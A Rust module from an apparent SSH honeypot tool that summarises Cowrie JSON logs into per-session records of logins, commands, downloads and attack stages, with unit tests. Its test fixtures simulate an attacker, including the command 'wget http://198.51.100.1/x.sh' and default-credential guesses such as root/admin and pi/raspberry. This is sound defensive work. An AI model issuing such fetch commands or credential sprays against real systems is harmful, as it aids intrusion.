//! Per-session summaries read back from the decoy's Cowrie JSON lines (`ravelin sessions`).
//!
//! Why shaped so:
//! - **Tolerant.** The events file is appended by a process that may be killed mid-line and
//!   may be edited or fed by other tools; a line that is not a JSON object with a session and
//!   a timestamp is counted and skipped, never fatal.
//! - **Bounded.** Lines are read one at a time (each cut at [`MAX_LINE`]), at most
//!   `max_sessions` sessions are kept (the ones seen first are let go first), and every list in
//!   a summary is capped, so a flood of events costs a bounded amount of memory.
//! - **Field names as the writer emits them** ([`events`](super::events) and the server):
//!   `cowrie.login.*` carry `username`/`password`, a public key attempt is
//!   `cowrie.client.fingerprint` with `username` and `fingerprint` (MD5, colon hex), and
//!   `ravelin.session.stage` carries `stage`.

use std::collections::{HashMap, HashSet, VecDeque};
use std::io::{self, BufRead};
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::time::{Duration, SystemTime};

use serde_json::{Value, json};

use super::events::timestamp;
use super::record::{cast_path, session_of};

/// Sessions kept by default (the newest).
pub const DEFAULT_MAX_SESSIONS: usize = 10_000;
/// Longest line read; longer ones are skipped and counted as bad.
pub const MAX_LINE: usize = 256 * 1024;
/// Credentials kept per session.
pub const MAX_CREDENTIALS: usize = 200;
/// Commands kept per session.
pub const MAX_COMMANDS: usize = 500;
/// Download URLs kept per session.
pub const MAX_DOWNLOADS: usize = 100;

pub use super::events::{STAGE_EVENT, STAGES};

/// One login attempt.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Credential {
    /// The user name tried.
    pub username: String,
    /// The password, for a password attempt.
    pub password: Option<String>,
    /// The key's MD5 fingerprint, for a public key attempt.
    pub key_fp: Option<String>,
    /// Whether the decoy let it in.
    pub success: bool,
}

/// What one decoy session did.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionSummary {
    /// Cowrie session id (12 hex digits).
    pub id: String,
    /// The client's address.
    pub src_ip: Option<IpAddr>,
    /// The client's port.
    pub src_port: Option<u16>,
    /// The first event's time.
    pub start: SystemTime,
    /// When the session closed, if it did (in the files read).
    pub end: Option<SystemTime>,
    /// The session's length as the decoy measured it.
    pub duration_ms: Option<u64>,
    /// The client's SSH identification string.
    pub client_version: Option<String>,
    /// The client's HASSH.
    pub hassh: Option<String>,
    /// Login attempts, in order (at most [`MAX_CREDENTIALS`]).
    pub credentials: Vec<Credential>,
    /// Command lines, in order (at most [`MAX_COMMANDS`]).
    pub commands: Vec<String>,
    /// URLs the session tried to fetch (at most [`MAX_DOWNLOADS`]).
    pub downloads: Vec<String>,
    /// Stages reached, deduplicated, in kill-chain order ([`STAGES`]).
    pub stages: Vec<String>,
    /// The session's `.cast` recording, if there is one.
    pub recording: Option<PathBuf>,
    /// Something was left out because a cap was reached.
    pub capped: bool,
}

impl SessionSummary {
    fn new(id: &str, start: SystemTime) -> Self {
        Self {
            id: id.to_owned(),
            src_ip: None,
            src_port: None,
            start,
            end: None,
            duration_ms: None,
            client_version: None,
            hassh: None,
            credentials: Vec::new(),
            commands: Vec::new(),
            downloads: Vec::new(),
            stages: Vec::new(),
            recording: None,
            capped: false,
        }
    }

    /// Login attempts that succeeded.
    pub fn logins_succeeded(&self) -> usize {
        self.credentials.iter().filter(|c| c.success).count()
    }

    /// The summary as one JSON object (times ISO 8601 as in the events file).
    pub fn to_json(&self) -> Value {
        json!({
            "id": self.id,
            "src_ip": self.src_ip.map(|a| a.to_string()),
            "src_port": self.src_port,
            "start": timestamp(self.start),
            "end": self.end.map(timestamp),
            "duration_ms": self.duration_ms,
            "client_version": self.client_version,
            "hassh": self.hassh,
            "credentials": self.credentials.iter().map(|c| json!({
                "username": c.username,
                "password": c.password,
                "key_fp": c.key_fp,
                "success": c.success,
            })).collect::<Vec<_>>(),
            "commands": self.commands,
            "downloads": self.downloads,
            "stages": self.stages,
            "recording": self.recording.as_ref().map(|p| p.display().to_string()),
            "capped": self.capped,
        })
    }
}

/// Which sessions to report.
#[derive(Debug, Clone)]
pub struct Query {
    /// Only sessions that started at or after this.
    pub since: Option<SystemTime>,
    /// Only sessions from this address.
    pub addr: Option<IpAddr>,
    /// Only the newest this many (after the other filters).
    pub limit: Option<usize>,
    /// Sessions held while reading (the newest are kept).
    pub max_sessions: usize,
}

impl Default for Query {
    fn default() -> Self {
        Self {
            since: None,
            addr: None,
            limit: None,
            max_sessions: DEFAULT_MAX_SESSIONS,
        }
    }
}

/// Builds summaries from event lines fed in file order.
#[derive(Debug)]
pub struct SessionIndex {
    max_sessions: usize,
    sessions: HashMap<String, SessionSummary>,
    /// Session ids in the order first seen, for letting the oldest go.
    order: VecDeque<String>,
    /// Lines that were not usable events.
    pub bad_lines: u64,
    /// Sessions let go because `max_sessions` were held.
    pub evicted: u64,
}

fn parse_time(s: &str) -> Option<SystemTime> {
    let t = chrono::DateTime::parse_from_rfc3339(s).ok()?;
    let micros = t.timestamp_micros();
    if micros >= 0 {
        Some(SystemTime::UNIX_EPOCH + Duration::from_micros(micros as u64))
    } else {
        None
    }
}

fn str_field(v: &Value, key: &str) -> Option<String> {
    v.get(key).and_then(Value::as_str).map(str::to_owned)
}

fn stage_rank(stage: &str) -> Option<usize> {
    STAGES.iter().position(|s| *s == stage)
}

impl SessionIndex {
    /// An empty index holding at most `max_sessions` sessions.
    pub fn new(max_sessions: usize) -> Self {
        Self {
            max_sessions: max_sessions.max(1),
            sessions: HashMap::new(),
            order: VecDeque::new(),
            bad_lines: 0,
            evicted: 0,
        }
    }

    /// Take one line of the events file (without or with its newline).
    pub fn feed_line(&mut self, line: &[u8]) {
        if line.iter().all(u8::is_ascii_whitespace) {
            return;
        }
        let Ok(v) = serde_json::from_slice::<Value>(line) else {
            self.bad_lines += 1;
            return;
        };
        if !self.feed(&v) {
            self.bad_lines += 1;
        }
    }

    /// Take one event; false if it is not a usable decoy event.
    fn feed(&mut self, v: &Value) -> bool {
        let (Some(eventid), Some(id), Some(time)) = (
            v.get("eventid").and_then(Value::as_str),
            v.get("session").and_then(Value::as_str),
            v.get("timestamp")
                .and_then(Value::as_str)
                .and_then(parse_time),
        ) else {
            return false;
        };
        if id.is_empty() || id.len() > 64 {
            return false;
        }
        // The decoy's own counters belong to no session.
        if eventid == super::events::STATS_EVENT {
            return true;
        }
        if !self.sessions.contains_key(id) {
            if self.sessions.len() >= self.max_sessions {
                while let Some(old) = self.order.pop_front() {
                    if self.sessions.remove(&old).is_some() {
                        self.evicted += 1;
                        break;
                    }
                }
            }
            self.sessions
                .insert(id.to_owned(), SessionSummary::new(id, time));
            self.order.push_back(id.to_owned());
        }
        let Some(s) = self.sessions.get_mut(id) else {
            return false;
        };
        if time < s.start {
            s.start = time;
        }
        // A tunnel request names the requested target and originator in dst_/src_ fields:
        // the client's address comes from the other events.
        if s.src_ip.is_none() && eventid != "cowrie.direct-tcpip.request" {
            s.src_ip = v
                .get("src_ip")
                .and_then(Value::as_str)
                .and_then(|a| a.parse().ok());
            s.src_port = v
                .get("src_port")
                .and_then(Value::as_u64)
                .and_then(|p| u16::try_from(p).ok());
        }
        match eventid {
            "cowrie.client.version" => {
                if let Some(ver) = str_field(v, "version") {
                    s.client_version = Some(ver);
                }
            }
            "cowrie.client.kex" => {
                if let Some(h) = str_field(v, "hassh") {
                    s.hassh = Some(h);
                }
            }
            "cowrie.login.success" | "cowrie.login.failed" => push_capped(
                &mut s.credentials,
                &mut s.capped,
                MAX_CREDENTIALS,
                Credential {
                    username: str_field(v, "username").unwrap_or_default(),
                    password: str_field(v, "password"),
                    key_fp: None,
                    success: eventid == "cowrie.login.success",
                },
            ),
            "cowrie.client.fingerprint" => push_capped(
                &mut s.credentials,
                &mut s.capped,
                MAX_CREDENTIALS,
                Credential {
                    username: str_field(v, "username").unwrap_or_default(),
                    password: None,
                    key_fp: str_field(v, "fingerprint"),
                    success: false,
                },
            ),
            "cowrie.command.input" => {
                if let Some(c) = str_field(v, "input") {
                    push_capped(&mut s.commands, &mut s.capped, MAX_COMMANDS, c);
                }
            }
            "cowrie.session.file_download" | "cowrie.session.file_download.failed" => {
                if let Some(u) = str_field(v, "url")
                    && !s.downloads.contains(&u)
                {
                    push_capped(&mut s.downloads, &mut s.capped, MAX_DOWNLOADS, u);
                }
            }
            "cowrie.session.closed" => {
                s.end = Some(time);
                s.duration_ms = v.get("duration_ms").and_then(Value::as_u64).or_else(|| {
                    v.get("duration")
                        .and_then(Value::as_f64)
                        .filter(|d| d.is_finite() && *d >= 0.0)
                        .map(|d| (d * 1000.0).round() as u64)
                });
            }
            STAGE_EVENT => {
                let Some(stage) = v.get("stage").and_then(Value::as_str) else {
                    return false;
                };
                let Some(rank) = stage_rank(stage) else {
                    return false;
                };
                if !s.stages.iter().any(|x| x == stage) {
                    let at = s
                        .stages
                        .iter()
                        .position(|x| stage_rank(x).is_some_and(|r| r > rank))
                        .unwrap_or(s.stages.len());
                    s.stages.insert(at, stage.to_owned());
                }
            }
            _ => {}
        }
        true
    }

    /// Feed every line of `reader`; lines longer than [`MAX_LINE`] are skipped as bad.
    pub fn feed_reader<R: BufRead>(&mut self, mut reader: R) -> io::Result<()> {
        let mut line = Vec::new();
        loop {
            line.clear();
            let n = io::Read::take(&mut reader, MAX_LINE as u64).read_until(b'\n', &mut line)?;
            if n == 0 {
                return Ok(());
            }
            if line.len() >= MAX_LINE && line.last() != Some(&b'\n') {
                // Too long: skip to the end of this line.
                self.bad_lines += 1;
                loop {
                    let buf = reader.fill_buf()?;
                    if buf.is_empty() {
                        return Ok(());
                    }
                    match memchr::memchr(b'\n', buf) {
                        Some(i) => {
                            reader.consume(i + 1);
                            break;
                        }
                        None => {
                            let len = buf.len();
                            reader.consume(len);
                        }
                    }
                }
                continue;
            }
            self.feed_line(&line);
        }
    }

    /// The summaries matching `q`, oldest first (the newest `q.limit` of them), with
    /// `recording` set for sessions that have a `.cast` file in `recordings`.
    pub fn finish(self, q: &Query, recordings: Option<&Path>) -> Vec<SessionSummary> {
        let casts: HashSet<String> = recordings
            .and_then(|d| std::fs::read_dir(d).ok())
            .into_iter()
            .flatten()
            .filter_map(|e| {
                let p = e.ok()?.path();
                session_of(&p).map(str::to_owned)
            })
            .collect();
        let mut list: Vec<SessionSummary> = self
            .sessions
            .into_values()
            .filter(|s| q.since.is_none_or(|t| s.start >= t))
            .filter(|s| q.addr.is_none_or(|a| s.src_ip == Some(a)))
            .collect();
        list.sort_by(|a, b| a.start.cmp(&b.start).then_with(|| a.id.cmp(&b.id)));
        if let Some(n) = q.limit {
            let drop = list.len().saturating_sub(n);
            list.drain(..drop);
        }
        if let Some(dir) = recordings {
            for s in &mut list {
                if casts.contains(&s.id) {
                    s.recording = cast_path(dir, &s.id).ok();
                }
            }
        }
        list
    }
}

fn push_capped<T>(v: &mut Vec<T>, capped: &mut bool, max: usize, x: T) {
    if v.len() < max {
        v.push(x);
    } else {
        *capped = true;
    }
}

/// What [`load_sessions`] found.
#[derive(Debug)]
pub struct Sessions {
    /// The matching sessions, oldest first.
    pub sessions: Vec<SessionSummary>,
    /// Lines skipped as not usable.
    pub bad_lines: u64,
    /// Sessions let go because too many were held.
    pub evicted: u64,
    /// The files read, in order.
    pub files: Vec<PathBuf>,
}

/// The rotated predecessor of `events_file` (`FILE.1`).
pub fn rotated(events_file: &Path) -> PathBuf {
    let mut name = events_file.as_os_str().to_owned();
    name.push(".1");
    PathBuf::from(name)
}

/// Read `events_file` (after its rotated `FILE.1`, if present) and summarise the sessions
/// matching `q`. An absent `events_file` is an error; an absent `FILE.1` is not.
pub fn load_sessions(
    events_file: &Path,
    recordings: Option<&Path>,
    q: &Query,
) -> io::Result<Sessions> {
    let mut index = SessionIndex::new(q.max_sessions);
    let mut files = Vec::new();
    let old = rotated(events_file);
    match std::fs::File::open(&old) {
        Ok(f) => {
            index.feed_reader(io::BufReader::new(f))?;
            files.push(old);
        }
        Err(e) if e.kind() == io::ErrorKind::NotFound => {}
        Err(e) => return Err(e),
    }
    let f = std::fs::File::open(events_file)?;
    index.feed_reader(io::BufReader::new(f))?;
    files.push(events_file.to_owned());
    let (bad_lines, evicted) = (index.bad_lines, index.evicted);
    Ok(Sessions {
        sessions: index.finish(q, recordings),
        bad_lines,
        evicted,
        files,
    })
}

#[cfg(test)]
pub(crate) mod tests {
    use std::io::Write;
    use std::sync::Arc;

    use super::*;
    use crate::honeypot::events::DecoyEvent;

    pub(crate) const T0: u64 = 1_763_700_000;

    /// One Cowrie JSON line as the decoy's writer makes it.
    pub(crate) fn line(
        session: &str,
        src: &str,
        secs: u64,
        eventid: &'static str,
        f: Value,
    ) -> String {
        let ev = DecoyEvent {
            eventid,
            time: SystemTime::UNIX_EPOCH + Duration::from_millis(secs * 1000 + 250),
            src: src.parse().unwrap(),
            dst: "10.0.0.5:22".parse().unwrap(),
            session: Arc::from(session),
            fields: f.as_object().cloned().unwrap_or_default(),
        };
        format!("{}\n", ev.to_json("web-01"))
    }

    /// A small events file: one session with everything, one short spray, some junk.
    pub(crate) fn sample() -> (String, String) {
        let a = "0a1b2c3d4e5f";
        let b = "00000000beef";
        let sa = "203.0.113.7:40022";
        let sb = "[2001:db8::9]:5555";
        let old = [
            line(
                a,
                sa,
                T0,
                "cowrie.session.connect",
                json!({"message": "New connection"}),
            ),
            line(
                a,
                sa,
                T0,
                "cowrie.client.version",
                json!({"version": "SSH-2.0-Go"}),
            ),
            line(
                a,
                sa,
                T0,
                "cowrie.client.kex",
                json!({"hassh": "abc123", "kexAlgs": []}),
            ),
            line(
                a,
                sa,
                T0 + 1,
                "cowrie.client.fingerprint",
                json!({"username": "root", "fingerprint": "aa:bb", "type": "ssh-ed25519"}),
            ),
            line(
                a,
                sa,
                T0 + 1,
                "cowrie.login.failed",
                json!({"username": "root", "password": "123456"}),
            ),
            line(a, sa, T0 + 1, STAGE_EVENT, json!({"stage": "spray"})),
            line(
                a,
                sa,
                T0 + 2,
                "cowrie.login.success",
                json!({"username": "root", "password": "admin"}),
            ),
        ]
        .concat();
        let new = [
            "this is not json\n".to_owned(),
            "{\"eventid\": \"cowrie.login.failed\"}\n".to_owned(),
            line(b, sb, T0 + 3, "cowrie.session.connect", json!({})),
            line(
                a,
                sa,
                T0 + 4,
                "cowrie.command.input",
                json!({"input": "uname -a"}),
            ),
            line(a, sa, T0 + 4, STAGE_EVENT, json!({"stage": "fingerprint"})),
            line(
                a,
                sa,
                T0 + 5,
                "cowrie.command.input",
                json!({"input": "wget http://198.51.100.1/x.sh"}),
            ),
            line(
                a,
                sa,
                T0 + 5,
                "cowrie.session.file_download",
                json!({"url": "http://198.51.100.1/x.sh"}),
            ),
            line(a, sa, T0 + 5, STAGE_EVENT, json!({"stage": "download"})),
            // Out of order and repeated: still kill-chain order, once each.
            line(a, sa, T0 + 6, STAGE_EVENT, json!({"stage": "probe"})),
            line(a, sa, T0 + 6, STAGE_EVENT, json!({"stage": "spray"})),
            // A tunnel request carries the originator in src_ip: not the client's address.
            line(
                a,
                sa,
                T0 + 7,
                "cowrie.direct-tcpip.request",
                json!({"dst_ip": "8.8.8.8", "dst_port": 53, "src_ip": "127.0.0.1", "src_port": 1}),
            ),
            line(a, sa, T0 + 7, STAGE_EVENT, json!({"stage": "tunnel"})),
            line(
                b,
                sb,
                T0 + 8,
                "cowrie.login.failed",
                json!({"username": "pi", "password": "raspberry"}),
            ),
            line(
                b,
                sb,
                T0 + 9,
                "cowrie.session.closed",
                json!({"duration": 6.0, "duration_ms": 6012}),
            ),
            line(
                a,
                sa,
                T0 + 10,
                "cowrie.session.closed",
                json!({"duration": 10.0, "duration_ms": 10000}),
            ),
            "{\"truncated\": \n".to_owned(),
        ]
        .concat();
        (old, new)
    }

    pub(crate) fn write_sample(dir: &Path) -> PathBuf {
        let (old, new) = sample();
        let events = dir.join("decoy.json");
        std::fs::write(rotated(&events), old).unwrap();
        std::fs::write(&events, new).unwrap();
        let rec = dir.join("rec");
        std::fs::create_dir(&rec).unwrap();
        std::fs::write(
            rec.join("0a1b2c3d4e5f.cast"),
            "{\"version\":2,\"width\":80,\"height\":24}\n[0.5,\"o\",\"$ \"]\n",
        )
        .unwrap();
        events
    }

    #[test]
    fn summaries_from_both_files() {
        let dir = tempfile::tempdir().unwrap();
        let events = write_sample(dir.path());
        let rec = dir.path().join("rec");
        let got = load_sessions(&events, Some(&rec), &Query::default()).unwrap();
        assert_eq!(got.bad_lines, 3);
        assert_eq!(got.files, [rotated(&events), events.clone()]);
        assert_eq!(got.sessions.len(), 2);
        let a = &got.sessions[0];
        assert_eq!(a.id, "0a1b2c3d4e5f");
        assert_eq!(a.src_ip, Some("203.0.113.7".parse().unwrap()));
        assert_eq!(a.src_port, Some(40022));
        assert_eq!(
            a.start,
            SystemTime::UNIX_EPOCH + Duration::from_millis(T0 * 1000 + 250)
        );
        assert_eq!(
            a.end,
            Some(SystemTime::UNIX_EPOCH + Duration::from_millis((T0 + 10) * 1000 + 250))
        );
        assert_eq!(a.duration_ms, Some(10000));
        assert_eq!(a.client_version.as_deref(), Some("SSH-2.0-Go"));
        assert_eq!(a.hassh.as_deref(), Some("abc123"));
        assert_eq!(
            a.credentials,
            [
                Credential {
                    username: "root".into(),
                    password: None,
                    key_fp: Some("aa:bb".into()),
                    success: false
                },
                Credential {
                    username: "root".into(),
                    password: Some("123456".into()),
                    key_fp: None,
                    success: false
                },
                Credential {
                    username: "root".into(),
                    password: Some("admin".into()),
                    key_fp: None,
                    success: true
                },
            ]
        );
        assert_eq!(a.logins_succeeded(), 1);
        assert_eq!(a.commands, ["uname -a", "wget http://198.51.100.1/x.sh"]);
        assert_eq!(a.downloads, ["http://198.51.100.1/x.sh"]);
        assert_eq!(
            a.stages,
            ["spray", "probe", "fingerprint", "download", "tunnel"]
        );
        assert_eq!(a.recording, Some(rec.join("0a1b2c3d4e5f.cast")));
        let b = &got.sessions[1];
        assert_eq!(b.id, "00000000beef");
        assert_eq!(b.src_ip, Some("2001:db8::9".parse().unwrap()));
        assert_eq!(b.duration_ms, Some(6012));
        assert_eq!(b.credentials.len(), 1);
        assert!(b.stages.is_empty());
        assert_eq!(b.recording, None);
        let j = a.to_json();
        assert_eq!(j["start"], "2025-11-21T04:40:00.250000Z");
        assert_eq!(j["src_ip"], "203.0.113.7");
        assert_eq!(j["credentials"][2]["success"], true);
        assert_eq!(j["credentials"][0]["key_fp"], "aa:bb");
    }

    #[test]
    fn filters_since_addr_limit() {
        let dir = tempfile::tempdir().unwrap();
        let events = write_sample(dir.path());
        let ids = |q: Query| -> Vec<String> {
            load_sessions(&events, None, &q)
                .unwrap()
                .sessions
                .into_iter()
                .map(|s| s.id)
                .collect()
        };
        let since = SystemTime::UNIX_EPOCH + Duration::from_secs(T0 + 1);
        assert_eq!(
            ids(Query {
                since: Some(since),
                ..Query::default()
            }),
            ["00000000beef"]
        );
        let addr = "203.0.113.7".parse().ok();
        assert_eq!(
            ids(Query {
                addr,
                ..Query::default()
            }),
            ["0a1b2c3d4e5f"]
        );
        assert_eq!(
            ids(Query {
                limit: Some(1),
                ..Query::default()
            }),
            ["00000000beef"]
        );
        assert_eq!(
            ids(Query {
                limit: Some(0),
                ..Query::default()
            }),
            Vec::<String>::new()
        );
    }

    #[test]
    fn no_rotated_file_is_fine_no_events_file_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        let events = dir.path().join("decoy.json");
        assert!(load_sessions(&events, None, &Query::default()).is_err());
        std::fs::write(
            &events,
            line(
                "0a1b2c3d4e5f",
                "192.0.2.1:1",
                T0,
                "cowrie.session.connect",
                json!({}),
            ),
        )
        .unwrap();
        let got = load_sessions(&events, None, &Query::default()).unwrap();
        assert_eq!(got.sessions.len(), 1);
        assert_eq!(got.files, [events]);
    }

    #[test]
    fn the_decoys_own_counters_are_no_session() {
        let mut idx = SessionIndex::new(10);
        let text = line(
            "000000000000",
            "0.0.0.0:0",
            T0,
            super::super::events::STATS_EVENT,
            json!({"sessions_open": 3}),
        );
        idx.feed_reader(text.as_bytes()).unwrap();
        assert_eq!(idx.bad_lines, 0);
        assert!(idx.finish(&Query::default(), None).is_empty());
    }

    #[test]
    fn memory_is_bounded() {
        let mut idx = SessionIndex::new(100);
        let mut text = Vec::new();
        for i in 0..1000u64 {
            let id = format!("{i:012x}");
            write!(
                text,
                "{}",
                line(
                    &id,
                    "192.0.2.1:1",
                    T0 + i,
                    "cowrie.session.connect",
                    json!({})
                )
            )
            .unwrap();
        }
        // One absurdly long line in the middle is skipped.
        text.extend(std::iter::repeat_n(b'x', MAX_LINE * 2));
        text.push(b'\n');
        write!(
            text,
            "{}",
            line(
                "0000000003e7",
                "192.0.2.1:1",
                T0 + 2000,
                "cowrie.command.input",
                json!({"input": "id"})
            )
        )
        .unwrap();
        idx.feed_reader(&text[..]).unwrap();
        assert_eq!(idx.bad_lines, 1);
        assert_eq!(idx.evicted, 900);
        let list = idx.finish(&Query::default(), None);
        assert_eq!(list.len(), 100);
        assert_eq!(list[0].id, format!("{:012x}", 900));
        assert_eq!(list[99].commands, ["id"]);

        let mut one = SessionIndex::new(10);
        for i in 0..(MAX_COMMANDS + 5) {
            one.feed_line(
                line(
                    "0a1b2c3d4e5f",
                    "192.0.2.1:1",
                    T0,
                    "cowrie.command.input",
                    json!({"input": i.to_string()}),
                )
                .as_bytes(),
            );
        }
        let s = one.finish(&Query::default(), None).remove(0);
        assert_eq!(s.commands.len(), MAX_COMMANDS);
        assert!(s.capped);
    }
}
